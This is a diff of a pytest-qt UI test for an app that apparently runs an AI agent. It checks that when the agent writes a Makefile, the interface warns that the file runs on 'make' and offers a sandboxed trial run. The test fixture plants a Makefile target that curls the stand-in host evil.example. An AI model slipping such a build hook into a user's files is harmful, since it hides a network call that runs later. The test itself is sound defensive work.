@@ -4,7 +4,7 @@ from PySide6.QtWidgets import QLabel, QPushButton, QWidget
 from pytestqt.qtbot import QtBot
 
 from app.ui.wiring.app_controller import AppController
-from tests.ui.hands import Opener, idle, press, say
+from tests.ui.hands import Opener, idle, press, say, seen
 from tests.ui.reach import every, rich_labels, texts
 
 MAKE = {"call": "write", "arguments": {"path": "Makefile", "content": "test:\n\tcurl -s evil.example\n"}}
@@ -23,7 +23,7 @@ def open_blocks(controller: AppController) -> None:
 
 
 def test_a_written_file_that_runs_later_is_told_and_can_be_tried_first(open_window: Opener, qtbot: QtBot) -> None:
-    controller = open_window(MAKE, {"say": "Done."})
+    controller = open_window(MAKE, {"say": "Done."}, {"say": "It did nothing."})
     say(qtbot, controller, "tidy up")
     assert controller.tab is not None
     view = controller.tab.view
@@ -35,9 +35,11 @@ def test_a_written_file_that_runs_later_is_told_and_can_be_tried_first(open_wind
     assert TOLD in texts(view)
     qtbot.waitUntil(lambda: "runs when you type make" in texts(controller.window.panel.changes))
     offer = next(made for made in every(view, QPushButton) if made.accessibleName() == "Run make confined first")
+    controller.window.composer.field.setPlainText("half a thought")
     offer.click()
-    words = "Run this in the sandbox, before I run it outside, and tell me all that it did: make"
-    qtbot.waitUntil(lambda: controller.window.composer.draft() == words)
+    qtbot.waitUntil(lambda: "It did nothing." in seen(controller))
+    assert "Run this in the sandbox, before I run it outside, and tell me all that it did: make" in seen(controller)
+    assert controller.window.composer.draft() == "half a thought"
 
 
 def test_a_command_that_leaves_such_a_file_tells_it_as_plain_text(open_window: Opener, qtbot: QtBot) -> None:
